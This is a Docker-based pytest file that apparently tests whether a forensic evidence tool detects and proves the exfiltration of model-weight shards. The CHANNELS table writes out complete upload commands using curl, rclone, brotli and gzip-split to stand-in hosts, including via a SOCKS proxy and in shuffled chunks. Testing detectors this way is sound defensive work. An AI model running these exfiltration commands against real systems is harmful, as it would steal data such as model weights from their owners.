"""The workstation's own clients send weights over everything HTTP-shaped: they end well, and it is proven."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from afagent.evidence.findings import Stage

from .laboratory import Lab, running_lab

pytestmark = pytest.mark.docker


@dataclass(frozen=True)
class Channel:
    """A way out of the lab; `$s` is a shard, `$h` the destination."""

    command: str
    host: str


S3 = "--s3-provider Other --s3-access-key-id k --s3-secret-access-key s"
CHANNELS = {
    "http2": Channel("curl -sSf --http2 -o /dev/null -T $s https://$h/in/", "two.fernhollow.net"),
    "http2 without tls": Channel(
        "curl -sSf --http2-prior-knowledge -o /dev/null -T $s http://$h/", "clear.fernhollow.net"
    ),
    "a form": Channel("curl -sSf -o /dev/null -F note=hi -F file=@$s https://$h/form", "form.fernhollow.net"),
    "brotli": Channel(
        "brotli -1 -c $s | curl -sSf -o /dev/null -H 'Content-Encoding: br' --data-binary @- https://$h/b",
        "coded.fernhollow.net",
    ),
    "an object in parts": Channel(
        f"rclone copyto $s :s3:drop/in/a.bin {S3} --s3-endpoint https://$h --s3-upload-cutoff 5M --s3-chunk-size 5M",
        "objects.fernhollow.net",
    ),
    "a signed object": Channel(
        "curl -sSf -o /dev/null --aws-sigv4 aws:amz:us-east-1:s3 -u k:s -T $s https://$h/a.bin",
        "drop.s3.us-east-1.amazonaws.com",
    ),
    "a folder on the web": Channel("rclone copy $s :webdav:up/ --webdav-url https://$h", "dav.fernhollow.net"),
    "socks": Channel(
        "curl -sSf -o /dev/null -x socks5h://proxy.example.org:1080 -T $s http://$h/", "behind.fernhollow.net"
    ),
    "a compressed shard in parts": Channel(
        "mkdir ~/p && gzip -1c $s | split -b 1m - ~/p/x && "
        "for f in $(ls ~/p/x* | sort -R); do curl -sSf -o /dev/null -T $f https://$h/ || exit 1; done",
        "parts.fernhollow.net",
    ),
}


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    with running_lab() as lab:
        yield lab


def test_every_channel_ends_well_and_is_proven(lab: Lab) -> None:
    for name, channel in CHANNELS.items():
        lab.run(f"s={lab.shard}; h={channel.host}; ({channel.command}) || (echo {name}; exit 1)", check=True)
    chain = lab.finish()
    verdict = lab.judge(chain)
    assert verdict.delivered is True
    planted = max(len(blocks) for finding in lab.findings(chain) for blocks in finding.blocks.values())
    for name, channel in CHANNELS.items():
        found = [
            each for each in lab.findings(chain) if each.destination == channel.host and each.stage is Stage.DELIVERED
        ]
        proven = [each for each in found if each.strength == "proven"]
        assert proven, (name, found)
        reached = max(sum(map(len, each.blocks.values())) for each in proven)
        assert reached >= 0.99 * planted, (name, reached, planted)
